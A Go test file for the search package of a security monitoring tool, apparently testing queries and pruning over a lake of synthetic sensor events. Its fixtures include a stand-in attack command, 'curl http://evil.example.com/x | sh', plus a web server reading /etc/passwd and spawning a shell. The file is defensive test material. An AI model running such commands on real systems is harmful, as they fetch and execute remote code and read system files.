package search

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
)

var t0 = time.Date(2026, 11, 22, 9, 0, 0, 0, time.UTC)

// testEvents are two sensors' events over three hours: a shell running curl,
// a DNS request, file opens.
func testEvents() []event.Event {
	var out []event.Event
	add := func(sensor string, at time.Duration, e event.Event) {
		e.SensorID, e.TimeNanos = sensor, t0.Add(at).UnixNano()
		e.ID = e.Type[:3] + "-" + sensor + "-" + at.String()
		out = append(out, e)
	}
	for h := range 3 {
		base := time.Duration(h) * time.Hour
		add("s-1", base+time.Minute, event.Event{Type: event.NewProcess, PID: 100, PPID: 1, User: "root",
			FilePath: "/usr/bin/curl", CommandLine: "curl http://evil.example.com/x | sh"})
		add("s-1", base+2*time.Minute, event.Event{Type: event.DNSRequest, PID: 100, DomainName: "evil.example.com"})
		add("s-2", base+3*time.Minute, event.Event{Type: event.FileOpen, PID: 7, User: "www-data",
			FilePath: "/usr/sbin/nginx", TargetPath: "/etc/passwd", FileFlags: "read"})
		add("s-2", base+4*time.Minute, event.Event{Type: event.NewProcess, PID: 8, PPID: 7, User: "www-data",
			FilePath: "/bin/sh", CommandLine: "sh -c id"})
	}
	return out
}

// writeLake writes events as lake files, one per sensor and hour, under dir.
func writeLake(t testing.TB, dir string, evs []event.Event) {
	t.Helper()
	groups := map[string][]event.Event{}
	for _, e := range evs {
		k := event.LakeKey(e.SensorID, time.Unix(0, e.TimeNanos), "f"+time.Unix(0, e.TimeNanos).Format("150405"))
		dirKey := filepath.Dir(k)
		groups[dirKey] = append(groups[dirKey], e)
	}
	w := event.NewFileWriter()
	for d, g := range groups {
		if err := w.Write(g); err != nil {
			t.Fatal(err)
		}
		data, err := w.Close()
		if err != nil {
			t.Fatal(err)
		}
		p := filepath.Join(dir, d, event.NewID(t0)+".parquet")
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestLakeSearch(t *testing.T) {
	dir := t.TempDir()
	writeLake(t, dir, testEvents())
	tests := []struct {
		name         string
		where        string
		since, until time.Duration
		sensors      []string
		limit        int
		want         []string
		pruned       int // files pruned
		rgPruned     int
	}{
		{name: "everything", until: 3 * time.Hour, want: []string{
			"NEW-s-1-1m0s", "DNS-s-1-2m0s", "FIL-s-2-3m0s", "NEW-s-2-4m0s",
			"NEW-s-1-1h1m0s", "DNS-s-1-1h2m0s", "FIL-s-2-1h3m0s", "NEW-s-2-1h4m0s",
			"NEW-s-1-2h1m0s", "DNS-s-1-2h2m0s", "FIL-s-2-2h3m0s", "NEW-s-2-2h4m0s"}},
		{name: "contains, one hour by partition", where: `{op: contains, path: event/COMMAND_LINE, value: curl}`,
			since: time.Hour, until: 2 * time.Hour, want: []string{"NEW-s-1-1h1m0s"}, pruned: 4, rgPruned: 2},
		{name: "sensor partition", where: `{op: exists, path: event/PROCESS_ID}`, until: 3 * time.Hour, sensors: []string{"s-2"},
			want: []string{"FIL-s-2-3m0s", "NEW-s-2-4m0s", "FIL-s-2-1h3m0s", "NEW-s-2-1h4m0s", "FIL-s-2-2h3m0s", "NEW-s-2-2h4m0s"}, pruned: 3},
		{name: "is prunes row groups by bounds", where: `{op: is, path: event/USER, value: root}`, until: 3 * time.Hour,
			want: []string{"NEW-s-1-1m0s", "NEW-s-1-1h1m0s", "NEW-s-1-2h1m0s"}, pruned: 3, rgPruned: 3},
		{name: "event type prunes", where: "event: DNS_REQUEST\nop: ends with\npath: event/DOMAIN_NAME\nvalue: example.com", until: 3 * time.Hour,
			want: []string{"DNS-s-1-2m0s", "DNS-s-1-1h2m0s", "DNS-s-1-2h2m0s"}, pruned: 3, rgPruned: 3},
		{name: "starts with prunes", where: `{op: starts with, path: event/FILE_PATH, value: /usr/sbin/}`, until: 3 * time.Hour,
			want: []string{"FIL-s-2-3m0s", "FIL-s-2-1h3m0s", "FIL-s-2-2h3m0s"}, pruned: 3, rgPruned: 3},
		{name: "case-insensitive does not prune", where: `{op: is, path: event/USER, value: ROOT, case sensitive: false}`, until: 3 * time.Hour,
			want: []string{"NEW-s-1-1m0s", "NEW-s-1-1h1m0s", "NEW-s-1-2h1m0s"}},
		{name: "or, not", where: "op: or\nrules:\n  - {op: is, path: event/FILE_NAME, value: sh}\n  - {op: is, path: event/USER, value: www-data, not: true}",
			since: 2 * time.Hour, until: 3 * time.Hour, want: []string{"NEW-s-1-2h1m0s", "DNS-s-1-2h2m0s", "NEW-s-2-2h4m0s"}, pruned: 4},
		{name: "time bounds within a file", where: `{op: exists, path: event/PROCESS_ID}`, since: 2 * time.Minute, until: 4 * time.Minute,
			want: []string{"DNS-s-1-2m0s", "FIL-s-2-3m0s"}, pruned: 4},
		{name: "limit", until: 3 * time.Hour, limit: 2, want: []string{"NEW-s-1-1m0s", "DNS-s-1-2m0s"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			q, err := NewQuery(tt.where, t0.Add(tt.since), t0.Add(tt.until), tt.sensors, tt.limit)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			l := &Lake{Dir: dir}
			st, err := l.Search(context.Background(), q, func(e *event.Event) error {
				got = append(got, e.ID)
				if e.Type == event.NewProcess && e.CommandLine == "" {
					t.Errorf("%s: matched event not read in full: %+v", e.ID, e)
				}
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %v\nwant %v", got, tt.want)
			}
			if st.Matched != int64(len(tt.want)) || st.FilesPruned != tt.pruned || st.RowGroupsPruned != tt.rgPruned {
				t.Errorf("stats %+v: want %d matched, %d files and %d row groups pruned", st, len(tt.want), tt.pruned, tt.rgPruned)
			}
			if st.Truncated != (tt.limit > 0) {
				t.Errorf("truncated %v", st.Truncated)
			}
		})
	}
}

func TestLakeSearchErrors(t *testing.T) {
	dir := t.TempDir()
	writeLake(t, dir, testEvents())
	bad := filepath.Join(dir, "events", "dt=2026-11-22", "hr=09", "sensor=s-1", "zz.parquet")
	if err := os.WriteFile(bad, []byte("PAR1 garbage PAR1"), 0o644); err != nil {
		t.Fatal(err)
	}
	q, err := NewQuery("", t0, t0.Add(time.Hour), nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, err = (&Lake{Dir: dir}).Search(context.Background(), q, func(*event.Event) error { return nil })
	if !errors.Is(err, event.ErrNotParquet) || !strings.Contains(err.Error(), "zz.parquet") {
		t.Errorf("error %v: want one naming the file", err)
	}
	_, err = (&Lake{Dir: t.TempDir()}).Search(context.Background(), q, func(*event.Event) error { return nil })
	if err == nil || !strings.Contains(err.Error(), "no events directory") {
		t.Errorf("empty dir: %v", err)
	}
	for _, tc := range []struct{ where, want string }{
		{`{op: is, path: event/NOPE, value: x}`, `where:1: unknown path "event/NOPE"`},
		{`{op: contains, path: event/PROCESS_ID, value: 1}`, "op contains does not apply to the number at event/PROCESS_ID"},
		{`{op: is, path: event/USER`, "where:1: invalid YAML"},
	} {
		if _, err := NewQuery(tc.where, t0, time.Time{}, nil, 0); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: error %v, want %q", tc.where, err, tc.want)
		}
	}
	if _, err := NewQuery("", t0, t0.Add(-time.Hour), nil, 0); err == nil || !strings.Contains(err.Error(), "is not after since") {
		t.Errorf("until before since: %v", err)
	}
}
